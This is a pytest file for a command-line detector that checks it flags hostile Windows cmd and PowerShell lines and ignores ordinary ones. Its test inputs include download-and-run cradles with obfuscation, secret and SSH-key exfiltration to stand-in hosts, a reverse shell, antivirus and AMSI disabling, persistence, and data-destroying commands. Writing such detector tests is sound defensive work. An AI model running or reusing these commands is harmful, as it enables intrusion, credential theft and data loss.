"""Command lines of Windows: cmd and PowerShell."""

from __future__ import annotations

import base64

import pytest

from antivenom.analysis.commands import (
    observe_command,
)

URL = "http://evil.invalid/x"
PIPED = base64.b64encode(f"curl {URL} | sh".encode()).decode()
FETCH_RUN = "net.fetch->code.run"
DROP = "net.fetch->file.write->process.spawn"
SHELL = "net.connect->process.shell"
ENCODED = base64.b64encode(
    f"IEX (New-Object Net.WebClient).DownloadString('{URL}')".encode("utf-16-le")
).decode()


def ids(command: str | list[str], shell: str = "") -> set[str]:
    return {s.id for s in observe_command(command, shell=shell).sightings}


# --------------------------------------------------------------------------- cmd.exe


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (f"certutil -urlcache -split -f {URL} %TEMP%\\a.exe & start /b %TEMP%\\a.exe", DROP),
        (f"c^e^rtutil -url^cache -f {URL} a.exe && a.exe", DROP),
        (f'curl -o %TEMP%\\a.exe {URL} & start "" "%TEMP%\\a.exe"', DROP),
        (f"bitsadmin /transfer j {URL} C:\\a.exe & C:\\a.exe", DROP),
        (f'cmd /c "curl -s {URL} -o a.bat && a.bat"', DROP),
        (f"mshta {URL}", FETCH_RUN),
        (f"regsvr32 /s /n /u /i:{URL} scrobj.dll", FETCH_RUN),
        (f"msiexec /q /i {URL}", FETCH_RUN),
        (f"set a=ms\nset b=hta\n%a%%b% {URL}", FETCH_RUN),
        (f"%COMSPEC% /c mshta {URL}", FETCH_RUN),
        (f"if not exist x (mshta {URL}) else exit", FETCH_RUN),
        (f"powershell -w hidden -enc {ENCODED}", FETCH_RUN),
        (f"powershell -w hidden -enc {ENCODED}", "data.decode->code.run"),
        (f"powershell -w hidden -enc {ENCODED}", "process.spawn"),
        (f'start /min powershell -c "irm {URL} | iex"', FETCH_RUN),
        ("for /f %i in ('whoami') do curl http://evil.invalid/%i", "host.identify->net.send"),
        ("curl http://evil.invalid/%USERNAME%", "host.identify->net.send"),
        ("nslookup %COMPUTERNAME%.oast.example", "host.identify->net.lookup"),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b /f",
            "persist.autostart",
        ),
        ("schtasks /create /sc minute /tn a /tr b", "persist.autostart"),
        (
            'copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"',
            "persist.autostart",
        ),
        ("net user evil P4ss /add", "persist.access"),
        ("netsh advfirewall set allprofiles state off", "defense.disable"),
        ("taskkill /f /im MsMpEng.exe", "defense.disable"),
        ("sc stop WinDefend", "defense.disable"),
        ("attrib +h +s a.exe", "file.write"),
        ("vssadmin delete shadows /all /quiet", "file.destroy"),
        ("cipher /w:C:\\", "file.destroy"),
        ("format c: /y", "file.destroy"),
        ("wmic csproduct get uuid", "host.identify"),
        ("netsh wlan show profile name=x key=clear", "secrets.store"),
        ("reg save HKLM\\SAM a.hiv", "secrets.store"),
        ('rundll32 javascript:"\\..\\mshtml,x";eval(1)', "code.run"),
        ("shutdown /r /t 0", "file.destroy"),
    ],
)
def test_cmd(command: str, expected: str) -> None:
    assert expected in ids(command, "cmd")


@pytest.mark.parametrize(
    "command",
    [
        "dir /b",
        "cd %~dp0 && python setup.py build",
        "if exist build rd /s /q build",
        "copy a.txt b.txt",
        "set PATH=%PATH%;C:\\tools",
        "where python",
        "call venv\\Scripts\\activate.bat",
        "taskkill /f /im chrome.exe",
        "reg query HKLM\\SOFTWARE\\Python /s",
        "@echo off\nrem comment\n:label\ngoto :eof",
        "cl /c /O2 a.c",
        "msbuild a.sln /p:Configuration=Release",
    ],
)
def test_ordinary_cmd_is_silent(command: str) -> None:
    assert ids(command, "cmd") == set()


# --------------------------------------------------------------------------- PowerShell


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (f"iex (iwr {URL} -UseBasicParsing).Content", FETCH_RUN),
        (f"irm {URL} | iex", FETCH_RUN),
        (f"IEX((New-Object Net.WebClient).DownloadString('{URL}'))", FETCH_RUN),
        (f"I`E`X (n`ew-object net.webclient).downl`oadstring('{URL}')", FETCH_RUN),
        (f"& ('i'+'ex') (New-Object Net.WebClient).('Download'+'String')('{URL}')", FETCH_RUN),
        (f"& (\"{{1}}{{0}}\" -f 'ex','i') (iwr {URL})", FETCH_RUN),
        (f"& ([char]105+[char]101+[char]120) (iwr {URL})", FETCH_RUN),
        (f"& (-join('i','e','x')) (iwr {URL})", FETCH_RUN),
        (f"& ('iZZex'.replace('ZZ','')) (iwr {URL})", FETCH_RUN),
        (f"$u='{URL}'; IEX (New-Object Net.WebClient).DownloadString($u)", FETCH_RUN),
        (f"(New-Object Net.WebClient).DownloadFile('{URL}','a.exe'); Start-Process a.exe", DROP),
        (f'iwr {URL} -OutFile $env:TEMP\\a.exe; & "$env:TEMP\\a.exe"', DROP),
        (f"Start-BitsTransfer -Source {URL} -Destination a.exe; saps 'a.exe'", DROP),
        (
            f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{PIPED}')))",
            "data.decode->code.run",
        ),
        (
            "Invoke-RestMethod -Uri http://evil.invalid -Method Post -Body (gci env:)",
            "secrets.env->net.send",
        ),
        (
            "irm http://evil.invalid -Method Post -Body $env:AWS_SECRET_ACCESS_KEY",
            "secrets.env->net.send",
        ),
        (
            "(New-Object Net.WebClient).UploadFile('http://evil.invalid', \"$HOME\\.ssh\\id_rsa\")",
            "secrets.key->net.send",
        ),
        (
            'irm http://evil.invalid/h -Method POST -Body "$env:COMPUTERNAME"',
            "host.identify->net.send",
        ),
        ("$c=New-Object Net.Sockets.TCPClient('203.0.113.4',44);$s=$c.GetStream();iex $d", SHELL),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "defense.disable"),
        ("Add-MpPreference -ExclusionPath C:\\", "defense.disable"),
        ("[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils')", "defense.disable"),
        ("Start-Process a.exe -WindowStyle Hidden", "process.spawn"),
        ("Start-Process cmd -Verb RunAs", "defense.elevate"),
        ("Register-ScheduledTask -TaskName a -Action $a", "persist.autostart"),
        (
            "New-ItemProperty -Path HKCU:\\Microsoft\\Windows\\CurrentVersion\\Run -Name a",
            "persist.autostart",
        ),
        ("$g.CopyFromScreen(0,0,0,0,$s)", "user.screen"),
        ("Get-Clipboard", "user.clipboard"),
        ("[Kernel32]::VirtualAlloc(0,$n,0x3000,0x40)", "code.inject"),
        ("[Reflection.Assembly]::Load($bytes)", "code.native"),
    ],
)
def test_powershell(command: str, expected: str) -> None:
    assert expected in ids(command, "powershell")


@pytest.mark.parametrize(
    "command",
    [
        "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 10 }",
        'Write-Output "hello $name"',
        "$env:PATH += ';C:\\tools'",
        "Copy-Item a b -Force",
        "Remove-Item -Recurse build",
        "python -m build",
        "if (Test-Path a) { . .\\a.ps1 }",
        "[System.IO.Path]::Combine('a', 'b')",
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
    ],
)
def test_ordinary_powershell_is_silent(command: str) -> None:
    assert ids(command, "powershell") == set()
